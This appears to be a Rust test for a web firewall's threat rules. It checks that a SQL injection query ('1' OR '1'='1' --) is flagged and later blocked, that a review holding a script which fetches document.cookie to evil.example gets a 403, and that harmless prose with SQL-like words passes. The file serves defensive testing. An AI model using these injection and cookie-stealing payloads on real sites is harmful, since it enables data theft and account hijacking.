//! What looks like an attack: told first, then refused; and what only has the words of one passes all the time.

use postern_tests::{Customer, OnlineShop, Table, wait};

/// `1' OR '1'='1' --`, as a query has it.
const INJECTION: &str = "/search?q=1%27%20OR%20%271%27%3D%271%27%20--%20";

pub(crate) fn show(table: &mut Table, online: &OnlineShop, bob: &Customer<'_>) {
    let answer = online.get(INJECTION, &[]).words();
    let found = online.edge.metrics().sum("postern_threat_rules_total", &[]);
    let told = if found > 0.0 { "and told" } else { "and not told" };
    let what = "GET /search?q=1' OR '1'='1' --, detect";
    table.row("stranger", "edge", what, "200, and told", &format!("{answer}, {told}"));
    online.edit("threats", "mode: detect", "mode: block");
    // Elsewhere, because searches are limited.
    let elsewhere = INJECTION.replace("/search", "/products/tea");
    wait::until_true("the gateway to block", || online.get(&elsewhere, &[]).status == 403);
    let answer = online.get(INJECTION, &[]).words();
    table.row("stranger", "edge", "the same, block", "403 threat_detected", &answer);
    let body = ["-d", "<script>fetch('https://evil.example/?'+document.cookie)</script>"];
    let answer = bob.get("/reviews/tea", &body).words();
    table.row("bob", "edge", "POST /reviews/tea: a script", "403 threat_detected", &answer);
    for words in ["it's a select offer", "drop table lamps", "tea & union <3"] {
        let query = format!("q={words}");
        let answer = online.get("/search", &["-G", "--data-urlencode", &query]).words();
        table.row("visitor", "frontend", &format!("GET /search?q={words}"), "200", &answer);
    }
    let review = "It's a select blend; my wife drops by & we drink it -- 5/5, where else <3";
    let answer = bob.get("/reviews/tea", &["-d", review]).words();
    table.row("bob", "frontend", "POST /reviews/tea: prose", "201", &answer);
}
